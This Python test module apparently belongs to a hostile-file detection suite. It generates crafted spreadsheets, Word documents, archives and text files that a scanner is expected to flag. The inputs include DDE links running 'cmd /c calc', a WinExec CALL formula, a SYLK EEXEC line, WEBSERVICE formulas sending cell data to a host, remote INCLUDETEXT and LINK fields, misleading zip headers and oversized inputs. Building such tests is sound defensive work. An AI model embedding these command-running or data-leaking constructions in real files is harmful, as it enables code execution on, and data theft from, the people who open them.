"""More hostile files: what acts under another name, in another place or another spelling; archives that two programs read differently."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

import polars as pl
from tests.hostile.archives import entry
from tests.hostile.documents import SENTENCE, field, given
from tests.hostile.making import (
    CSV,
    LEFT,
    MAIN,
    MEGABYTE,
    READ,
    WORD,
    Entry,
    book,
    deflated,
    hand_zip,
    hostile,
    part_of,
    relations,
    replaced,
    sheet_of,
    word,
    zipped,
)
from tests.hostile.workbooks import biff, compound, record

BOOK_RELATIONS = "xl/_rels/workbook.xml.rels"


def led(data: bytes, part: str, kind: str, target: str, body: str | bytes, *, is_outside: bool = False) -> bytes:
    """A package with one more part, and the relation that leads to it."""
    row = relations((kind, target, is_outside))
    row = row[row.index("<Relationship ") : row.index("</Relationships>")].replace("rX0", "rX77")
    try:
        old = part_of(data, part)
    except KeyError:
        old = relations()
    parts: dict[str, str | bytes] = {part: old.replace("</Relationships>", f"{row}</Relationships>")}
    if not is_outside:
        parts[target.lstrip("/")] = body
    return replaced(data, parts)


def utf16(text: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")


LINK = "xl/externalLinks/externalLink1.xml"
DDE = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'


def dde_in_two_bytes() -> bytes:
    """A link to a program, two bytes a letter, behind the name of a workbook beside this one."""
    rows = relations(("externalLinkPath", "b.xlsx", True))
    return book(more={LINK: utf16(DDE), "xl/externalLinks/_rels/externalLink1.xml.rels": rows})


def types_in_two_bytes() -> bytes:
    data = book(more={"xl/theme/a.bin": b"\0" * 99})
    old = part_of(data, "[Content_Types].xml").partition("?>")[2]
    row = '<Override PartName="/xl/theme/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    return replaced(data, {"[Content_Types].xml": utf16(old.replace("</Types>", row))})


def calling(formula: str) -> Callable[[], bytes]:
    """A workbook of which one cell calls something."""
    return lambda: book(f'<row r="1"><c r="A1" t="str"><f>{formula}</f><v>3</v></c></row>')


def named_otherwise(local: bytes) -> bytes:
    """An archive of which a member has one name in the list and another before its bytes."""
    data = bytearray(hand_zip([entry("a.csv")]))
    data[30 : 30 + len(local)] = local
    return bytes(data)


def old_macro_sheet() -> bytes:
    """An old workbook one of whose sheets is a sheet of macros."""
    return compound(biff(record(0x0085, struct.pack("<IBBBB", 0, 2, 1, 1, 0) + b"M")))


def small_old_link() -> bytes:
    """An old workbook so small that it lies among the small streams, with a link to a program."""
    link = record(0x01AE, struct.pack("<HHB", 1, 11, 0) + b"cmd\x03/c calc")
    head = record(0x0809, struct.pack("<HHHHII", 0x0600, 5, 0, 0, 0, 0))
    return small_compound(head + link + record(0x0A, b""))


def small_compound(stream: bytes, name: str = "Workbook") -> bytes:
    """An old container whose one stream lies in the small sectors of its root."""
    padded = stream.ljust(-(-len(stream) // 64) * 64, b"\0")
    small = padded.ljust(-(-len(padded) // 512) * 512, b"\0")
    count = len(small) // 512
    fat = [0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE]
    fat += [at + 1 for at in range(3, 3 + count - 1)] + [0xFFFFFFFE]
    minis = [at + 1 for at in range(len(padded) // 64 - 1)] + [0xFFFFFFFE]

    def row(title: str, kind: int, child: int, start: int, size: int) -> bytes:
        raw = title.encode("utf-16-le") + b"\0\0"
        about = struct.pack("<HBBIII", len(raw), kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, child)
        return raw.ljust(64, b"\0") + about + bytes(36) + struct.pack("<IQ", start, size)

    listing = row("Root Entry", 5, 1, 3, len(small)) + row(name, 2, 0xFFFFFFFF, 0, len(stream))
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH6x", 0x3E, 3, 0xFFFE, 9, 6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 2, 1, 0xFFFFFFFE, 0)
    head += struct.pack("<I", 0) + b"\xff" * (108 * 4)
    tables = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    return (
        head + tables + listing.ljust(512, b"\0") + struct.pack(f"<{len(minis)}I", *minis).ljust(512, b"\xff") + small
    )


def noted_parquet() -> bytes:
    """A table of two rows whose foot holds a note of 20 MB."""
    out = io.BytesIO()
    pl.DataFrame({"region": ["Gao", "Mopti"]}).write_parquet(out, metadata={"note": "x" * (20 * MEGABYTE)})
    return out.getvalue()


def in_note(inside: str, part: str = "footnotes") -> bytes:
    """A Word file whose notes hold something."""
    body = f'<w:{part} xmlns:w="{WORD}"><w:{part[:-1]} w:id="2">{inside}</w:{part[:-1]}></w:{part}>'
    made = led(word(SENTENCE), "word/_rels/document.xml.rels", part, f"{part}.xml", "")
    return replaced(made, {f"word/{part}.xml": body})


def with_head() -> bytes:
    """A Word file with a command in the head of its pages."""
    made = led(word(SENTENCE), "word/_rels/document.xml.rels", "header", "header9.xml", "")
    return replaced(made, {"word/header9.xml": HEADED})


HEADED = f'<w:hdr xmlns:w="{WORD}">{field("DDE cmd /c calc")}</w:hdr>'

hostile(
    "xlsx: a macro project by its relation",
    "a.xlsx",
    lambda: led(book(), BOOK_RELATIONS, "vbaProject", "/xl/theme/a.bin", b"\0" * 99),
    "file_macros",
)
hostile(
    "xlsx: old macros by their relation",
    "a.xlsx",
    lambda: led(book(), BOOK_RELATIONS, "xlMacrosheet", "/xl/theme/a.xml", sheet_of("")),
    "file_macros",
)
hostile("xlsx: macros said in two bytes a letter", "a.xlsx", types_in_two_bytes, "file_macros", "file_bomb")
hostile("xlsx: a command by DDE in two bytes a letter", "a.xlsx", dde_in_two_bytes, "file_links", "file_bomb")
hostile(
    "xlsx: a command by DDE under another name",
    "a.xlsx",
    lambda: led(book(), BOOK_RELATIONS, "externalLink", "/xl/theme/a.xml", DDE),
    "file_links",
)
hostile(
    "xlsx: a connection under another name",
    "a.xlsx",
    lambda: led(book(), BOOK_RELATIONS, "connections", "/xl/theme/a.xml", "<connections/>"),
    LEFT,
)
hostile(
    "xlsx: a query under another name",
    "a.xlsx",
    lambda: led(book(), BOOK_RELATIONS, "queryTable", "/xl/theme/a.xml", "<queryTable/>"),
    LEFT,
)
hostile(
    "xlsx: a query of Power Query",
    "a.xlsx",
    lambda: book(
        more={
            "customXml/item1.xml": utf16(
                '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
            )
        }
    ),
    READ,
)
hostile(
    "xlsx: a ribbon that calls",
    "a.xlsx",
    lambda: led(book(), "_rels/.rels", "extensibility", "/customUI/customUI.xml", '<customUI onLoad="a"/>'),
    LEFT,
)
hostile(
    "xlsx: an add-in",
    "a.xlsx",
    lambda: led(book(), "_rels/.rels", "webextensiontaskpanes", "/xl/webextensions/taskpanes.xml", "<t/>"),
    LEFT,
)
hostile(
    "xlsx: two parts of one name in other letters",
    "a.xlsx",
    lambda: book(more={"XL/Workbook.xml": "<workbook/>"}),
    "file_names",
)
for _formula in ('_xlfn.WEBSERVICE(&quot;http://example.org/?&quot;&amp;B1)', '_xlfn.IMAGE(&quot;http://example.org/a&quot;)', 'RTD(&quot;a.b&quot;,,&quot;c&quot;)', 'CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JFJ&quot;,&quot;calc&quot;,1)', 'DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)', "cmd|&apos;/c calc&apos;!A0"):  # fmt: skip
    hostile(f"xlsx: a cell that calls {_formula[:12]}", "a.xlsx", calling(_formula), "file_links")
hostile("xlsx: a cell that names a page", "a.xlsx", calling("HYPERLINK(&quot;http://example.org&quot;)"), READ)
hostile("xls: a sheet of old macros", "a.xls", old_macro_sheet, "file_macros")
hostile("xls: a link in a small stream", "a.xls", small_old_link, "file_links", "file_empty")
hostile("zip: a member of two names", "a.zip", lambda: named_otherwise(b"b.csv"), "file_truncated")
hostile(
    "zip: a member behind a long extra field",
    "a.zip",
    lambda: hand_zip([entry("a.csv", extra=b"\x01\x00\xff\xff" + bytes(40))]),
    READ,
    "file_truncated",
    "file_bomb",
)  # type: ignore[arg-type]
hostile(
    "zip: a drive of Windows",
    "a.zip",
    lambda: hand_zip([Entry(name=b"CON.csv", packed=deflated(CSV), size=len(CSV), check=zlib.crc32(CSV))]),
    READ,
    "file_names",
)
hostile(
    "zip: an archive (7z) called csv",
    "a.zip",
    lambda: zipped({"a.csv": b"7z\xbc\xaf\x27\x1c" + bytes(range(256))}),
    "file_not_a_table",
    "file_nested",
)
hostile(
    "zip: an archive (tar) called csv",
    "a.zip",
    lambda: zipped({"a.csv": b"a.csv".ljust(257, b"\0") + b"ustar\0" + bytes(800)}),
    "file_not_a_table",
    "file_nested",
)
hostile("csv: an archive (zstd)", "a.csv", lambda: b"\x28\xb5\x2f\xfd" + bytes(range(256)) * 9, "file_not_a_table")
hostile("csv: a database", "a.csv", lambda: b"SQLite format 3\0" + bytes(range(256)) * 9, "file_not_a_table")
hostile(
    "csv: a table of formulas of an old kind",
    "a.csv",
    lambda: b'ID;PWXL;N;E\nC;Y1;X1;K0;EEXEC("CALC.EXE")\nE\n',
    READ,
    "file_not_a_table",
)
hostile(
    "parquet: a note of 20 MB in its foot",
    "a.parquet",
    noted_parquet,
    "file_too_large",
)
given("docx: a command by DDE in a head of page", "a.docx", with_head, "links")
given("docx: a command by DDE in a note", "a.docx", lambda: in_note(field("DDEAUTO cmd /c calc")), "links")
given(
    "docx: a text of another machine in a field",
    "a.docx",
    lambda: word(SENTENCE + field('INCLUDETEXT "\\\\\\\\192.0.2.1\\\\a\\\\b.docx"')),
    "links",
)
given(
    "docx: a picture of another machine in a field",
    "a.docx",
    lambda: word(SENTENCE + field('INCLUDEPICTURE "http://example.org/a.png" \\d')),
    "links",
)
given(
    "docx: a link to a workbook of another machine",
    "a.docx",
    lambda: word(SENTENCE + field('LINK Excel.Sheet.12 "\\\\\\\\192.0.2.1\\\\a.xlsx" "a"')),
    "links",
)
given(
    "docx: a field that names a page", "a.docx", lambda: word(SENTENCE + field('HYPERLINK "http://example.org"')), READ
)
given(
    "docx: a mail merge that asks a database",
    "a.docx",
    lambda: replaced(
        word(),
        {
            "word/settings.xml": f'<w:settings xmlns:w="{WORD}"><w:mailMerge><w:connectString w:val="Provider=a;Data Source=b"/><w:query w:val="SELECT 1"/></w:mailMerge></w:settings>'
        },
    ),
    "links",
)
given(
    "docx: macros by their relation",
    "a.docx",
    lambda: led(word(), "word/_rels/document.xml.rels", "vbaProject", "/word/a.bin", b"\0" * 99),
    "macros",
)
given(
    "docx: an add-in",
    "a.docx",
    lambda: led(word(), "_rels/.rels", "webextensiontaskpanes", "/word/webextensions/taskpanes.xml", "<t/>"),
    "objects",
    "macros",
)
given(
    "docx: two parts of one name in other letters",
    "a.docx",
    lambda: word(more={"WORD/Document.xml": f'<w:document xmlns:w="{WORD}"/>'}),
    "names",
)
given("text: one word of 100 000 letters", "a.txt", lambda: b"a" * 100_000, READ, "costly", "too_large")
given("text: pages of marks of mail", "a.txt", lambda: b"a@" * 50_000, READ, "costly", "too_large")
given("text: pages of telephones", "a.txt", lambda: b"+223 70 00 00 00 " * 2_000, READ, "costly", "too_large")
given("text: pages of capitals", "a.txt", lambda: b"Awa " * 12_000, READ, "costly", "too_large")
given("text: pages of numbers", "a.txt", lambda: b"7 580, " * 7_000, READ, "costly", "too_large")
